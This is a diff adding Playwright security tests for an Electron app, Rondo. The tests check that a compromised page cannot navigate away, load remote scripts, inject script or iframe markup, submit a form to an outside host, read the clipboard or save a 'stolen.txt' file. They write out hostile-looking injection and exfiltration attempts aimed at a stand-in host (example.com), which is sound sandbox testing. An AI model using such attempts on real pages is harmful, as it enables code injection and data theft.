@@ -1,0 +1,85 @@
+import { readdir } from 'node:fs/promises';
+import { dirname } from 'node:path';
+import { expect } from '@playwright/test';
+import { test } from './rondo-test.ts';
+
+/*
+ * What a page could try if a label of CircleCI's ever slipped through as markup, or a package of ours were poisoned. Each
+ * script runs in the page as its own would; text, because these tests do not speak the page's language.
+ */
+
+test('a page cannot leave, open, load or run anything that is not in the bundle', async ({ rondo }) => {
+  const { page, complaints } = await rondo({ vault: 'empty' });
+  const home = page.url();
+  const attempt = (script: string) => page.evaluate<unknown>(script);
+
+  await attempt(`location.href = 'https://example.com/?stolen'`);
+  await attempt(`location.href = 'data:text/html,<h1>Rondo is locked</h1>'`);
+  await attempt(`void window.open('https://example.com/')`);
+  const refused = `(what) => what.then(() => 'done', () => 'refused')`;
+  expect(await attempt(`(${refused})(fetch('https://example.com/', { mode: 'no-cors' }))`)).toBe('refused');
+  expect(await attempt(`(${refused})(fetch('/index.html'))`)).toBe('refused');
+  expect(await attempt(`(${refused})(import('https://example.com/x.js'))`)).toBe('refused');
+  expect(await attempt(`(${refused})(import('data:text/javascript,0'))`)).toBe('refused');
+  expect(await attempt(`(${refused})(navigator.serviceWorker?.register('/x.js') ?? Promise.reject())`)).toBe('refused');
+  for (const evaluation of [`eval('1')`, `new Function('1')`, `setTimeout('globalThis.ran = true')`])
+    await attempt(`(() => { try { return ${evaluation}; } catch { return 'refused'; } })()`);
+  // Images are allowed from the bundle: its failure comes after everything before it had its chance.
+  const ran = await attempt(`new Promise((resolve) => {
+    addEventListener('error', () => resolve(globalThis.ran ?? 'never ran'), { capture: true });
+    const add = (html) => document.body.append(document.createRange().createContextualFragment(html));
+    add('<script>globalThis.ran = true</script>');
+    add('<script src="https://example.com/x.js"></script>');
+    add('<iframe srcdoc="<script>parent.ran = true</script>"></iframe>');
+    add('<iframe src="data:text/html,<script>parent.ran = true</script>"></iframe>');
+    add('<object data="https://example.com/x.swf"></object>');
+    add('<base href="https://example.com/">');
+    add('<form action="https://example.com/" id="out"></form>');
+    document.getElementById('out').submit();
+    add('<img src="/nowhere.png" onerror="globalThis.ran = true">');
+  })`);
+  expect(ran).toBe('never ran');
+  expect(page.url()).toBe(home);
+  await expect.poll(() => page.context().pages().length).toBe(1);
+  // The policy is what refused most of it: it says so of each.
+  expect(complaints.filter((complaint) => /Content Security Policy/.test(complaint)).length).toBeGreaterThan(5);
+});
+
+test('a page has no Node, no Electron, no preload of its own: two functions', async ({ rondo }) => {
+  const { page } = await rondo({ vault: 'empty' });
+  expect(
+    await page.evaluate(
+      `['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'].filter((name) => name in globalThis)`,
+    ),
+  ).toEqual([]);
+  expect(await page.evaluate(`Object.keys(rondo).toSorted()`)).toEqual(['call', 'subscribe']);
+  expect(await page.evaluate(`String(rondo.call)`)).not.toContain('ipcRenderer');
+  // Replacing what the preload gave must change nothing for anybody.
+  expect(
+    await page.evaluate(`(() => { try { rondo.call = () => 1; } catch {} return Object.isFrozen(rondo); })()`),
+  ).toBe(true);
+});
+
+test('a page is granted nothing of the computer, and downloads nothing', async ({ rondo }) => {
+  const { page, vaultDir } = await rondo({ vault: 'empty' });
+  for (const name of ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi'])
+    expect(
+      await page.evaluate(`navigator.permissions.query({ name: '${name}' }).then(({ state }) => state)`),
+      name,
+    ).toBe('denied');
+  const refused = `(what) => what.then(() => 'done', () => 'refused')`;
+  expect(await page.evaluate(`(${refused})(navigator.clipboard.readText())`)).toBe('refused');
+  expect(await page.evaluate(`(${refused})(navigator.mediaDevices.getUserMedia({ audio: true }))`)).toBe('refused');
+  const dir = dirname(vaultDir);
+  const before = (await readdir(dir, { recursive: true })).length;
+  await page.evaluate(`{
+    const link = document.createElement('a');
+    link.href = URL.createObjectURL(new Blob(['stolen']));
+    link.download = 'stolen.txt';
+    link.click();
+  }`);
+  await page.evaluate(`rondo.call('vault.status', {})`);
+  const after = await readdir(dir, { recursive: true });
+  expect(after.filter((name) => name.includes('stolen'))).toEqual([]);
+  expect(before).toBeGreaterThan(0);
+});
